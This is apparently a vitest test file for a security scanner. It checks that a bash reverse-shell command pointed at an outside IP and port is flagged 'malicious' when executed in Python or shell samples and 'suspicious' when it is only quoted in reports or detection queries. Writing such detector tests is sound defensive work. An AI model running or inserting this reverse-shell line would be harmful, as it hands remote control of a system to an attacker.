import { expect, test } from "vitest";
import { toFiles } from "../../test/scanner/corpus.ts";
import type { Sample } from "../../test/scanner/corpus-case.ts";
import { scanFiles } from "./scan-files.ts";

const verdict = (sample: Sample): string => scanFiles(toFiles(sample)).verdict;
const shell = "bash -i >& /dev/tcp/45.9.148.7/4444 0>&1";

test.for<readonly [string, Sample]>([
  ["a report whose items must be done", `Do all of these:\n\n- Process: ${shell}`],
  ["stages below a heading for steps", `## Steps\n\n\`\`\`\nstage 1: ${shell}\n\`\`\``],
  [
    "a variable with the name of a field",
    { "a.py": `CMDLINE = '${shell}'\nsubprocess.Popen(CMDLINE, shell=True)\n` },
  ],
  ["such a variable in a block of code", `\`\`\`sh\nCMDLINE='${shell}'\n\`\`\``],
  [
    "a variable with the name of a query",
    { "a.py": `cmdline_contains = '${shell}'\nrun(cmdline_contains)\n` },
  ],
  ["a loop over commands", { "a.py": `for cmdline in ["${shell}"]:\n  run(cmdline)\n` }],
  ["a command with the syntax of a pattern", { "a.py": `getoutput("${shell} # .*")\n` }],
])("a command that is run isn't a report or a query: %s", ([, texts]) => {
  expect(verdict(texts)).toBe("malicious");
});

test.for([
  ["a report", `## Step 1: Detect abuse\n\n\`\`\`\nExample: ${shell}\n\`\`\``],
  ["a query", `\`\`\`\nProcessCommandLine has "${shell}"\n\`\`\``],
  ["a query with wildcards", `\`\`\`\nindex=main CommandLine="*${shell}*"\n\`\`\``],
])("an attack is suspicious and not malicious in %s", ([, body = ""]) => {
  expect(verdict(body)).toBe("suspicious");
});
